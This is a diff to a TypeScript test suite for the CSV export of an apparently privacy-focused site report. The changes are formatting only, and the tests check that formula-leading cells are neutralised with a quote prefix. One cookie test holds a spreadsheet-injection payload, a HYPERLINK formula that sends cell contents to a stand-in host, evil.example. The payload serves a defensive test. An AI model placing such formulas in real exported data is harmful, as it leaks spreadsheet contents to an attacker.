@@ -64,15 +64,19 @@ describe('csvCell', () => {
 
   it('property: any row reads back cell for cell (formula cells with their prefix), in both separators', () => {
     fc.assert(
-      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 1, maxLength: 6 }), fc.constantFrom('de' as const, 'en' as const), (cells, lang) => {
-        const sep = lang === 'de' ? ';' : ',';
-        const parsed = parseCsv(body(toCsv(['h'], [cells], lang)), sep);
-        const expected = cells.map((c) => {
-          const s = c.replace(/[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/g, '');
-          return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
-        });
-        expect(parsed[1]).toEqual(expected);
-      }),
+      fc.property(
+        fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
+        fc.constantFrom('de' as const, 'en' as const),
+        (cells, lang) => {
+          const sep = lang === 'de' ? ';' : ',';
+          const parsed = parseCsv(body(toCsv(['h'], [cells], lang)), sep);
+          const expected = cells.map((c) => {
+            const s = c.replace(/[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/g, '');
+            return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
+          });
+          expect(parsed[1]).toEqual(expected);
+        },
+      ),
       { numRuns: 100 },
     );
   });
@@ -93,7 +97,16 @@ describe('the tables', () => {
 
   it('cookies: English with ",", a formula payload in a cookie name comes out inert', () => {
     const r = linktreeReport();
-    const hostile: Report = { ...r, cookies: { ...r.cookies, items: [{ ...r.cookies.items[0]!, name: '=HYPERLINK("https://evil.example/?"&A1,"click")' }, ...r.cookies.items.slice(1)] } };
+    const hostile: Report = {
+      ...r,
+      cookies: {
+        ...r.cookies,
+        items: [
+          { ...r.cookies.items[0]!, name: '=HYPERLINK("https://evil.example/?"&A1,"click")' },
+          ...r.cookies.items.slice(1),
+        ],
+      },
+    };
     const { text } = cookiesCsv([hostile], 'en');
     const parsed = parseCsv(body(text), ',');
     expect(parsed[0]).toEqual([...CSV_HEADERS.cookies.en]);
@@ -112,6 +125,17 @@ describe('the tables', () => {
     const parsed = parseCsv(body(text), ';');
     expect(rows).toBe(2);
     expect(parsed[0]).toEqual([...CSV_HEADERS.history.de]);
-    expect(parsed[1]).toEqual(['linktr.ee', linktreeReport().visitedAt, 'rot', linktreeReport().authority.isAuthority ? 'ja' : 'nein', 'Link-in-Bio-Seite', String(linktreeReport().requests.thirdPartyHosts.length), String(linktreeReport().cookies.total), linktreeReport().findings.map((f) => f.id).join(' ')]);
+    expect(parsed[1]).toEqual([
+      'linktr.ee',
+      linktreeReport().visitedAt,
+      'rot',
+      linktreeReport().authority.isAuthority ? 'ja' : 'nein',
+      'Link-in-Bio-Seite',
+      String(linktreeReport().requests.thirdPartyHosts.length),
+      String(linktreeReport().cookies.total),
+      linktreeReport()
+        .findings.map((f) => f.id)
+        .join(' '),
+    ]);
   });
 });
